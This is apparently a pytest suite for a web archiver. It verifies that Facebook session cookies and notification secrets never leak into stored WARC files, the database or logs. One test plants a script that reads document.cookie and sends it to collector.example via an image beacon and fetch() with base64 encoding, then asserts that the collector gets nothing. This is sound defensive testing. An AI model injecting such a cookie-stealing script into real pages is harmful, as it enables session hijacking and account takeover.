"""A Facebook post captured in a real Chromium with an operator's session: the session is
sent to Facebook, and afterwards no cookie value is anywhere under storage/ (every byte
searched, gzip members decompressed), nor in the logs; the snapshot says what was
redacted."""

from __future__ import annotations

import json
import logging
import secrets
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from sqlalchemy import select
from warcio.archiveiterator import ArchiveIterator  # type: ignore[import-untyped]

from archiver.app import Archive
from archiver.config import Settings
from archiver.models import PlatformRecord, Snapshot
from tests.conftest import FixedClock
from tests.simweb import SimulatedWeb
from tests.simweb.corpus import read_manifest

pytestmark = pytest.mark.slow

POST = next(
    e for e in read_manifest() if e.path.name == "fb-www-dag-permalink-827163017327807-2020.html"
)
XS = "47%3A" + secrets.token_urlsafe(24)  # the session token
C_USER = "1000" + str(secrets.randbelow(10**11)).zfill(11)  # the account id
DATR = secrets.token_urlsafe(18)


def _state() -> dict[str, object]:
    def cookie(name: str, value: str) -> dict[str, object]:
        return {
            "name": name, "value": value, "domain": ".facebook.com", "path": "/",
            "expires": -1, "httpOnly": True, "secure": True, "sameSite": "None",
        }  # fmt: skip

    return {
        "cookies": [cookie("c_user", C_USER), cookie("xs", XS), cookie("datr", DATR)],
        "origins": [],
    }


def _cookies_txt() -> str:
    lines = ["# Netscape HTTP Cookie File"]
    for name, value in (("c_user", C_USER), ("xs", XS), ("datr", DATR)):
        lines.append(f"#HttpOnly_.facebook.com\tTRUE\t/\tTRUE\t0\t{name}\t{value}")
    return "\n".join(lines) + "\n"


def _all_bytes(root: Path) -> list[tuple[Path, bytes]]:
    """Every file under ``root``, and for gzip data every member decompressed."""
    found = []
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        data = path.read_bytes()
        found.append((path, data))
        start = data.find(b"\x1f\x8b")
        while start >= 0:
            inflater = zlib.decompressobj(wbits=31)
            try:
                plain = inflater.decompress(data[start:])
            except zlib.error:
                start = data.find(b"\x1f\x8b", start + 2)
                continue
            found.append((path, plain))
            used = len(data) - start - len(inflater.unused_data)
            start = data.find(b"\x1f\x8b", start + max(used, 2))
    return found


@pytest.mark.parametrize("form", ["storage-state", "cookies.txt"])
def test_no_session_value_reaches_storage_or_logs(
    form: str,
    simweb: SimulatedWeb,
    make_settings: Callable[..., Settings],
    clock: FixedClock,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    assert POST.url is not None
    # A logged-in page names the account (as Facebook's do) and refreshes the token.
    body = POST.body().replace(
        b"</body>", f'<script>var env={{"USER_ID":"{C_USER}"}};</script></body>'.encode(), 1
    )
    simweb.page(POST.url, body, headers={"Set-Cookie": f"xs={XS}; Path=/; Secure; HttpOnly"})
    session_file = tmp_path / ("session.json" if form == "storage-state" else "cookies.txt")
    session_file.write_text(
        json.dumps(_state()) if form == "storage-state" else _cookies_txt(), "utf-8"
    )
    settings = make_settings(
        network__proxy=simweb.proxy_url,
        capture__extra_ca_file=str(simweb.ca_pem_path),
        capture__per_host_interval="0",
        capture__page_budget="25",
        capture__max_resources="60",
        platforms__facebook_session=str(session_file),
    )
    report = tmp_path / "report.txt"
    report.write_text(f"The association posted photos[1].\n\n[1]{POST.url}\n", "utf-8")
    caplog.set_level(logging.DEBUG)
    with Archive.open(settings, clock=clock) as archive:
        archive.add(str(report))
        outcomes = archive.capture()
        assert [o.error for o in outcomes] == [None]
        with archive.db.session() as session:
            snapshot = session.scalars(select(Snapshot)).one()
            record = session.scalars(select(PlatformRecord)).one()

    # The session was used: Chromium sent it to Facebook through the archiver's client.
    sent = [h.get("cookie", "") for _, url, h in simweb.requests if "facebook.com" in url]
    assert any(XS in cookie and C_USER in cookie for cookie in sent), sent
    assert record.session_used and record.detail == "available"
    assert "Aquí vos deixamos" in (record.extracted["text"] or "")

    # Nothing of it under storage/: WARC (raw and decompressed), database, anything else.
    secrets_ = [XS.encode(), C_USER.encode(), DATR.encode()]
    files = _all_bytes(settings.storage.root)
    assert any(p.name.endswith(".warc.gz") for p, _ in files)
    leaks = [(str(p), s) for p, data in files for s in secrets_ if s in data]
    assert leaks == []
    assert not [s for s in secrets_ if s.decode() in caplog.text]

    # The snapshot says what was redacted (where, never what).
    warc = settings.storage.root / snapshot.warc_path
    with warc.open("rb") as handle:
        provenance = next(
            json.loads(r.content_stream().read())
            for r in ArchiveIterator(handle)
            if r.rec_type == "metadata"
        )
    wheres = {item["where"] for item in provenance["platform"]["redactions"]}
    assert {"request headers", "response head", "response body"} <= wheres
    assert provenance["platform"]["session"]["cookies"] == ["c_user", "xs", "datr"]


EXFILTRATE = """<script>
  const jar = document.cookie;
  document.body.insertAdjacentHTML('beforeend', '<p>jar: ' + jar + '</p>');
  new Image().src = 'https://collector.example/steal?c=' + encodeURIComponent(jar);
  fetch('https://collector.example/b64?d=' + btoa(jar));
</script></body>"""


def _every_form(value: str) -> list[bytes]:
    """The value as a leak would carry it: plain, percent-encoded, base64 (the inner
    characters, whatever the alignment)."""
    import base64
    from urllib.parse import quote

    forms = {value.encode(), quote(value, safe="").encode()}
    for shift in range(3):
        encoded = base64.b64encode(b"\0" * shift + value.encode())
        forms.add(encoded[4:-4])
    return sorted(forms)


def test_exfiltrating_page_leaks_no_secret_anywhere(
    simweb: SimulatedWeb,
    make_settings: Callable[..., Settings],
    clock: FixedClock,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """Hardening, point 1: session cookies that are not HttpOnly (as a browser extension
    exports them), a Facebook page that reads document.cookie and sends it to a third
    party, and a page elsewhere that happens to quote the SMTP password and the webhook
    token. Nothing reaches the third party; no file under storage/ (WARC raw and
    decompressed, database), and no log line, holds any secret in any form."""
    assert POST.url is not None
    smtp_password = secrets.token_urlsafe(16)
    webhook_token = secrets.token_hex(16)
    body = POST.body().replace(b"</body>", EXFILTRATE.encode(), 1)
    simweb.page(POST.url, body)
    for path in ("/steal", "/b64"):
        simweb.page(f"https://collector.example{path}", "ok")
    quoting = f"<title>Leak</title><p>pw {smtp_password} and token={webhook_token}</p>"
    simweb.page("https://news.example/leak.html", quoting)
    lines = ["# Netscape HTTP Cookie File"]
    for name, value in (("c_user", C_USER), ("xs", XS), ("datr", DATR)):
        lines.append(f".facebook.com\tTRUE\t/\tTRUE\t0\t{name}\t{value}")
    session_file = tmp_path / "cookies.txt"
    session_file.write_text("\n".join(lines) + "\n", "utf-8")
    settings = make_settings(
        network__proxy=simweb.proxy_url,
        capture__extra_ca_file=str(simweb.ca_pem_path),
        capture__per_host_interval="0",
        capture__page_budget="25",
        capture__max_resources="60",
        platforms__facebook_session=str(session_file),
        notify__smtp_password=smtp_password,
        notify__webhook_url=f"https://hooks.example/notify?token={webhook_token}",
    )
    report = tmp_path / "report.txt"
    report.write_text(
        f"Photos[1] and a note[2].\n\n[1]{POST.url}\n[2]https://news.example/leak.html\n", "utf-8"
    )
    caplog.set_level(logging.DEBUG)
    with Archive.open(settings, clock=clock) as archive:
        archive.add(str(report))
        outcomes = archive.capture()
        assert [o.error for o in outcomes] == [None, None]
        logging.getLogger("test").info(
            "webhook token %s, password %s", webhook_token, smtp_password
        )

    # The page ran its script, and the collector got no cookie.
    collected = [(url, h) for _, url, h in simweb.requests if "collector.example" in url]
    assert collected
    session_values = [XS, C_USER, DATR]
    assert not [
        (url, form)
        for url, headers in collected
        for value in session_values
        for form in _every_form(value)
        if form.decode() in url or form.decode() in str(headers)
    ]
    every_secret = [*session_values, smtp_password, webhook_token]
    files = _all_bytes(settings.storage.root)
    leaks = [
        (str(p), form)
        for p, data in files
        for value in every_secret
        for form in _every_form(value)
        if form in data
    ]
    assert leaks == []
    logged = caplog.text.encode()
    assert not [form for value in every_secret for form in _every_form(value) if form in logged]
